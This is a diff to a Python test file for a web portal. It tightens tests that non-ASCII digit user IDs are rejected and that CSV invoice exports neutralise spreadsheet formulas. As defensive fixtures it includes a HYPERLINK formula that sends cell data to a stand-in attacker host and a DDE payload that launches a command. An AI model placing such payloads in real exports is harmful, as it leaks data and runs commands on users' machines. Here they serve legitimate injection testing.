@@ -20,8 +20,8 @@ FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
 
 @pytest.mark.parametrize("raw", ["²", "1²", "٣", "99999999999999999999999", "-1", "0"])
 def test_a_user_id_that_is_not_ascii_digits_is_not_found(seeded, raw):
-    from tests.support.test_handlers import make_state
     from opkalla_portal.state.users import UserEditState
+    from tests.support.test_handlers import make_state
 
     dana = make_state(UserEditState, DANA, "/manage-users/user")._identity()
     with pytest.raises(user_service.UserNotFound):
@@ -39,7 +39,8 @@ def test_the_user_page_with_a_superscript_id_shows_not_found(seeded):
     from opkalla_portal.state.users import UserEditState
 
     with session_scope() as db:
-        cookie = f"{SESSION_COOKIE}={create_session(db, db.exec(select(PortalUser).where(PortalUser.email == DANA)).one())}"
+        dana = db.exec(select(PortalUser).where(PortalUser.email == DANA)).one()
+        cookie = f"{SESSION_COOKIE}={create_session(db, dana)}"
     root = rx.State(_reflex_internal_init=True)
     root.router = RouterData.from_router_data({"headers": {"cookie": cookie}, "pathname": "/manage-users/user",
                                                "asPath": "/manage-users/user?id=²", "query": {"id": "²"}})
@@ -62,7 +63,7 @@ def _row(**changes) -> UsageRow:
 
 def test_invoice_usage_csv_neutralises_formulas_and_keeps_numbers():
     [header, row] = _cells(usage_csv([_row()]))
-    cells = dict(zip(header, row))
+    cells = dict(zip(header, row, strict=True))
     assert [v for v in row if v[:1] in "=+-@" and not v.startswith("-1.00")] == []
     assert f"'{FORMULA}" in row and "'@SUM(1+1)" in row and "'+cmd|' /C calc'!A0" in row
     assert "-1.00" in row  # a credit is still a number the sheet can sum
